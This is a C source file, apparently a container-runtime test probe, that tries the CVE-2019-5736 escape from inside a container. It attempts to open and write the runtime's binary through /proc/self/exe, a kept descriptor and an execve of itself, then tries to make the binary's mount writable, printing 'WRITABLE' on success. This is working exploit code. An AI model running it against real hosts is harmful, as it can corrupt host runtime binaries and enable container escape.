/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736 from the inside: whoever made the runtime run itself in the container tries to
 * get its binary for writing. Linked without libc and position independent, so that it can stand
 * in for the dynamic loader, which the kernel runs when the runtime's binary is executed again.
 *
 * Opens /proc/self/exe in every way that writes, for as long as a few thousand tries take, keeps a
 * descriptor of it over an execve of /overwrite (itself, which drops the text lock), tries by that,
 * and, where it has CAP_SYS_ADMIN, to make the mount below it writable. Says what it has tried, and
 * "WRITABLE ..." for each success.
 */
#if defined(__x86_64__)
#define NR_WRITE 1
#define NR_CLOSE 3
#define NR_OPENAT 257
#define NR_EXECVE 59
#define NR_EXIT_GROUP 231

static long call5(long nr, long a, long b, long c, long d, long e)
{
	register long r8 __asm__("r8") = e;
	register long r10 __asm__("r10") = d;
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return r;
}

__asm__(".globl _start\n_start:\n\txor %ebp,%ebp\n\tmov %rsp,%rdi\n\tand $-16,%rsp\n"
	"\tcall begin\n");
#elif defined(__aarch64__)
#define NR_WRITE 64
#define NR_CLOSE 57
#define NR_OPENAT 56
#define NR_EXECVE 221
#define NR_EXIT_GROUP 94

static long call5(long nr, long a, long b, long c, long d, long e)
{
	register long x4 __asm__("x4") = e;
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;

	__asm__ volatile("svc 0"
			 : "+r"(x0)
			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4)
			 : "memory");
	return x0;
}

__asm__(".globl _start\n_start:\n\tmov x0,sp\n\tbl begin\n");
#endif

#ifdef NR_OPENAT
#define call4(nr, a, b, c, d) call5(nr, a, b, c, d, 0)
#define AT_FDCWD (-100)
#define O_WRONLY 01
#define O_RDWR 02
#define O_CREAT 0100
#define O_TRUNC 01000
#define O_APPEND 02000
#define O_PATH 010000000
#define AT_EMPTY_PATH 0x1000
#define NR_OPEN_TREE 428
#define NR_MOUNT_SETATTR 442
#define KEPT 9
#define ROUNDS 2000

void begin(long *stack);

static void say(const char *text)
{
	long n = 0;

	while (text[n])
		n++;
	call4(NR_WRITE, 1, (long)text, n, 0);
}

static void try_path(const char *path, const char *success)
{
	static const long flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND,
		O_WRONLY | O_TRUNC, O_RDWR | O_CREAT };

	for (int i = 0; i < ROUNDS; i++) {
		for (unsigned k = 0; k < sizeof(flags) / sizeof(flags[0]); k++) {
			long fd = call4(NR_OPENAT, AT_FDCWD, (long)path, flags[k], 0644);

			if (fd < 0)
				continue;
			/* A sealed copy opens for who may open anything, and still keeps. */
			if (call4(NR_WRITE, fd, (long)"attack", 6, 0) > 0) {
				say(success);
				return;
			}
			call4(NR_CLOSE, fd, 0, 0, 0);
		}
	}
}

static long make_writable(long fd)
{
	const unsigned long long attr[4] = { 0, 1 /* clear MOUNT_ATTR_RDONLY */, 0, 0 };

	return call5(
		NR_MOUNT_SETATTR, fd, (long)"", AT_EMPTY_PATH, (long)attr, sizeof(attr));
}

/* The mount that a read-only clone of the binary lies on, or a further clone of that. */
static void try_mount(void)
{
	long clone;

	if (make_writable(KEPT) >= 0)
		say("WRITABLE by mount_setattr\n");
	clone = call5(NR_OPEN_TREE, KEPT, (long)"", AT_EMPTY_PATH | 1, 0, 0);
	if (clone >= 0 && make_writable(clone) >= 0)
		say("WRITABLE by a clone of the mount\n");
	say("tried the mount\n");
}

/* A descriptor with the number KEPT, by opening until it comes. */
static void keep(void)
{
	for (int i = 0; i < 64; i++) {
		long fd = call4(NR_OPENAT, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);

		if (fd < 0 || fd >= KEPT)
			return;
	}
}

void begin(long *stack)
{
	long argc = stack[0];
	char **argv = (char **)(stack + 1);
	static char second[] = "second", name[] = "/overwrite";
	static char *const env[] = { (char *)0 };

	if (argc == 2 && argv[1][0] == 's' && argv[1][1] == 'e') {
		try_path("/proc/self/fd/9", "WRITABLE by the kept descriptor\n");
		say("tried the kept descriptor\n");
		try_mount();
	} else {
		try_path("/proc/self/exe", "WRITABLE by /proc/self/exe\n");
		say("tried exe\n");
		keep();
		/* On the stack: without libc nobody relocates a table of pointers. */
		char *args[] = { name, second, (char *)0 };

		call4(NR_EXECVE, (long)name, (long)args, (long)env, 0);
		say("no second stage\n");
	}
	call4(NR_EXIT_GROUP, 0, 0, 0, 0);
	for (;;)
		;
}
#else
int main(void)
{
	return 2;
}
#endif
